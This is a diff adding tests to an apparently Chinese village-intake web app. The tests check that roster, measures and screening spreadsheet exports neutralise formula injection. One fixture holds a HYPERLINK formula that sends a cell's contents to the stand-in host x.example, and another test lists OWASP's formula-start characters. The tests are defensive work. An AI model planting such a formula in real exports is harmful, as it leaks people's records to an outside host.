@@ -25,7 +25,14 @@ from sqlmodel import col, select
 
 from bot.services import Services
 from intake.audit import AuditEvent
-from intake.exports import MEASURES_COLUMNS, ROSTER_COLUMNS, SCREENING_COLUMNS
+from intake.exports import (
+    MEASURES_COLUMNS,
+    ROSTER_COLUMNS,
+    SCREENING_COLUMNS,
+    measures_xlsx,
+    roster_xlsx,
+    screening_xlsx,
+)
 from intake.queue import QueueItem
 from intake.users import Role
 
@@ -242,3 +249,62 @@ async def test_notice_dates_use_the_clock_in_beijing_and_the_page_is_logged(
         ("notice", "pdf", 1),
     ]
     assert all(e.at == clock.now for e in logged)
+
+
+FORMULAS = {
+    "helper": '=HYPERLINK("http://x.example/?"&E4,"点此")',
+    "measures": "+1+1",
+    "reason_detail": "-2+3",
+}
+
+
+async def test_text_typed_by_cadres_is_written_as_text_never_a_formula(
+    services: Services, clock: FakeClock
+) -> None:
+    item = apply_by_chat(services, sender="f-1", serial=31)
+    add_user(services, "root", Role.ADMIN, None)
+    steps: list[tuple[str, dict[str, Any]]] = [
+        ("start_village_review", {}),
+        ("village_report", {"home_visit": "on", "consent_confirmed": "on",
+                            "meeting_result": "通过"}),
+        ("start_notice", {}),
+        ("end_notice", {}),
+        ("enrol", {"risk_codes": ["01"], "measures_due": "2027-06-30",
+                   **FORMULAS}),
+    ]  # fmt: skip
+    async with client_for(services) as client:
+        csrf = await login(client, "root")
+        for action, fields in steps:
+            if action == "end_notice":
+                clock.advance(days=8)
+            assert (await act(client, item.id or 0, csrf, action, **fields)).status_code == 303
+        books = [(await client.get(f"/cadre/exports/{k}.xlsx")).content for k in _TEXT_SHEETS]
+    cells = [c for content in books for c in _data_cells(content)]
+    typed = {c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")}
+    assert typed == {"'" + value for value in FORMULAS.values()}
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
+
+
+_TEXT_SHEETS = ("roster", "measures")
+
+
+def _data_cells(content: bytes) -> list[Any]:
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [cell for row in sheet.iter_rows(min_row=4) for cell in row]
+
+
+def test_every_formula_start_is_neutralised_in_every_workbook() -> None:
+    """OWASP's list: = + - @, tab and carriage return; a villager's name as much as a cadre's."""
+    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
+    now = datetime(2026, 11, 25, tzinfo=UTC)
+    for book, width in (
+        (roster_xlsx, len(ROSTER_COLUMNS)),
+        (measures_xlsx, len(MEASURES_COLUMNS)),
+        (screening_xlsx, len(SCREENING_COLUMNS)),
+    ):
+        rows = [[value] * width for value in starts]
+        cells = _data_cells(book(rows, "柏岭村", now))
+        # XML reads a stored carriage return back as a line feed.
+        expected = ["'" + v.replace("\r", "\n") for v in starts for _ in range(width)]
+        assert [c.value for c in cells] == expected
+        assert {c.data_type for c in cells} == {"s"}
